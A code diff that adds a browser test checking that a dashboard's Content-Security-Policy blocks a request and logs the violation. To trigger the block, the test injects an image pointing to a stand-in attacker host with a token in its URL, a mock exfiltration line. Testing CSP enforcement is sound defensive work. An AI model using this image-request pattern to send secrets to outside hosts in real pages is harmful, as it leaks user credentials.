@@ -335,6 +335,30 @@ inABrowser('the dashboard in a browser', () => {
     await dashboard.page.getByRole('heading', { name: 'System' }).waitFor();
   });
 
+  it('has the browser report what it was kept from', async () => {
+    await open();
+    const { page } = dashboard;
+    // By `report-to` Chromium sends over HTTPS alone, so it is shown what browsers go by that do not know it.
+    await page.route('**/admin/', async (route) => {
+      const response = await route.fetch();
+      const headers = response.headers();
+      const policy = headers['content-security-policy']?.replace('; report-to csp', '') ?? '';
+      await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy } });
+    });
+    await dashboard.goTo('');
+    await page.evaluate(() => {
+      document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/pixel.png?token=secret' }));
+    });
+    const line = /^.*"directive":"img-src".*$/m;
+    for (let waited = 0; !line.test(server.log()) && waited < 20_000; waited += 50) await page.waitForTimeout(50);
+
+    expect(JSON.parse(line.exec(server.log())?.[0] ?? '{}')).toMatchObject({
+      level: 'warn',
+      page: '/admin/',
+      blocked: 'https://evil.example',
+    });
+  });
+
   it('weighs less than 200 kB on the way to the first screen', async () => {
     await open();
     const bodies: Promise<Buffer>[] = [];
